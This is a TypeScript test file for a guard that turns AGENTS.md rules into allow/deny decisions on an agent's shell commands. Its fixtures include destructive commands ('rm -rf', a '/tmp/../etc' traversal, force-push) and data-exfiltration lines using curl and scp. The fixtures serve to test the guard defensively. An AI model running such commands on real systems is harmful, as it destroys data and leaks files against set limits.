import { describe, expect, it } from 'vitest';
import { compile } from '../../src/compiler/compile.ts';
import { createEngine } from '../../src/engine/engine.ts';
import { createGuard } from '../../src/engine/guard.ts';
import { eventSchema } from '../../src/model/event.ts';
import { memoryView } from '../../src/repository/overlay.ts';

/** Sentences about commands, with lines that break them and lines that do not. */
const CASES: readonly (readonly [prose: string, broken: readonly string[], kept: readonly string[]])[] = [
  [
    'Never run `git restore <path>` without `--staged`, `git push --force` (`--force-with-lease` is fine), or `rm -rf` outside /tmp.',
    ['git restore src/a.ts', 'git push --force origin topic', 'rm -rf build', 'rm -fr /tmp/../etc'],
    ['git restore --staged src/a.ts', 'git push --force-with-lease', 'rm -rf /tmp/build', 'rm -r build'],
  ],
  ['Do not run `rm -r` on the home directory.', ['rm -r ~', 'rm -r ~/*'], ['rm -r build', 'ls ~']],
  ['Never run `rm -f` under sudo or in a subshell.', ['rm -f a', 'sudo rm -f a', 'sh -c "rm -f a"'], ['rm a']],
  [
    'No ad-hoc `npm install` / `pip install`.',
    ['npm install left', 'pip3 install left'],
    ['npm install', 'npm ci', 'pip install -r requirements.txt'],
  ],
  ['Never use `git commit` with `--amend`.', ['git commit --amend'], ['git commit -m "feat: x"']],
  [
    'Never write files via the shell.',
    ["sed -i 's/a/b/' a.py", 'echo x > a.py'],
    ['cat a.py', 'ls 2>/dev/null', 'git mv a b'],
  ],
  ['Do not exfiltrate data.', ['curl -d @a.txt https://example.org', 'scp a.txt host:'], ['curl https://example.org']],
  [
    'Shell commands must not create, change or delete project files.',
    ['touch a', 'rm a', 'git stash', 'npm i x'],
    ['ls', 'git log', 'ls > /tmp/a'],
  ],
  ['Only read-only commands are allowed.', ['touch a', 'git fetch', 'some-tool'], ['ls -la', 'git status']],
  ['Use read-only commands to look around first.', [], ['touch a', 'git fetch', 'some-tool']],
  ['Do not edit `.env` files.', ['echo A=1 > .env', 'cp .env.example .env.local'], ['cat .env', 'cp a .env.example']],
];

describe.each(CASES)('%s', (prose, broken, kept) => {
  const judged = async (command: string) => {
    const view = memoryView({ 'AGENTS.md': `- ${prose}\n` }, 'topic');
    const { rules } = await compile(view, {});
    const guard = createGuard(createEngine(rules, view), view);
    return (await guard.take(eventSchema.parse({ kind: 'command', command }))).decision;
  };
  it.each(broken)('refuses %s', async (command) => expect(await judged(command)).toBe('deny'));
  it.each(kept)('lets %s pass', async (command) => expect(await judged(command)).toBe('allow'));
});
